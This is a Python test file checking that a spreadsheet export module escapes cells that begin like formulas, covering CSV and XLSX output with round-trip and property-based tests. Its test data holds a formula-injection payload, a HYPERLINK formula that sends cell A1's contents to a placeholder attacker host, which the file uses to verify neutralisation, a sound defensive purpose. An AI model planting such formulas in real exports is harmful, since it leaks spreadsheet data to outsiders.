"""Cells written for spreadsheets: text that starts like a formula is escaped in CSV and read back
unchanged; numbers stay numbers. No database."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from entas.core.spreadsheet import (
    CsvWriter,
    Sheet,
    csv_cell,
    escape_text,
    inert_cell,
    is_formula_like,
    unescape_cell,
    workbook,
)

FORMULA_STARTS = "=+-@\t\r＝＋－＠"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://evil.example/?x="&A1,"klik")', '\'=HYPERLINK("http://evil.example/?x="&A1,"klik")'),
        ("+62 812 0000", "'+62 812 0000"),
        ("-", "'-"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),
        ("＝1+1", "'＝1+1"),
        ("'=1+1", "''=1+1"),  # a value that itself starts with '= survives the round trip
        ("Budi Sintetis", "Budi Sintetis"),
        ("'Budi", "'Budi"),  # an apostrophe before no formula character is plain text
        ("Jl. A = B", "Jl. A = B"),
        ("2026-01-31", "2026-01-31"),
        ("-1.2667", "-1.2667"),  # a negative latitude is a number, not a formula
        ("+1", "+1"),
        ("-1,5", "-1,5"),
        ("-1e3", "-1e3"),
        ("", ""),
    ],
)
def test_it_escapes_exactly_the_cells_a_spreadsheet_would_run(value: str, written: str) -> None:
    assert escape_text(value) == written
    assert unescape_cell(written) == value


def test_numbers_and_empty_cells_are_written_as_they_are() -> None:
    assert [csv_cell(v) for v in (-5, -1.5, 0, None, True)] == [-5, -1.5, 0, None, True]


@given(st.text(alphabet=st.sampled_from([*FORMULA_STARTS, "'", " ", "1", ".", "a", "(", "\n"]), max_size=8))
def test_every_text_reads_back_unchanged_and_no_written_cell_starts_a_formula(value: str) -> None:
    written = escape_text(value)
    assert unescape_cell(written) == value
    assert written == value or written.startswith("'")
    assert not is_formula_like(written) or written.startswith("'")


@given(st.text(max_size=12))
def test_any_text_reads_back_unchanged(value: str) -> None:
    assert unescape_cell(escape_text(value)) == value


def test_a_cell_read_from_a_file_is_written_back_with_its_meaning() -> None:
    # Already inert cells are kept as read (importing them again gives what importing them gave).
    for cell in ("'=1+1", "''=1+1", "'-1", "Budi"):
        assert inert_cell(cell) == cell
    assert inert_cell("=1+1") == "'=1+1"
    assert unescape_cell(inert_cell("=1+1")) == "=1+1"


def test_the_csv_writer_escapes_text_cells_only() -> None:
    out = io.StringIO()
    CsvWriter(out).writerow(["=1+1", -3, "-3", "Siti"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'=1+1", "-3", "-3", "Siti"]


def test_an_xlsx_sheet_writes_text_as_strings_and_numbers_as_numbers() -> None:
    from python_calamine import CalamineWorkbook

    out = io.BytesIO()
    book = workbook(out)
    sheet = Sheet(book, "s")
    sheet.write_row(0, 0, ["=1+1", "http://evil.example/", -3, -1.25, "-1.25", None, "@x"], {"bold": True})
    book.close()
    xml = zipfile.ZipFile(io.BytesIO(out.getvalue())).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml and "hyperlink" not in xml
    row = CalamineWorkbook.from_filelike(io.BytesIO(out.getvalue())).get_sheet_by_index(0).to_python()[0]
    assert row == ["=1+1", "http://evil.example/", -3, -1.25, "-1.25", "", "@x"]
    styles = zipfile.ZipFile(io.BytesIO(out.getvalue())).read("xl/styles.xml").decode()
    assert 'quotePrefix="1"' in styles  # editing "=1+1" in Excel keeps it text
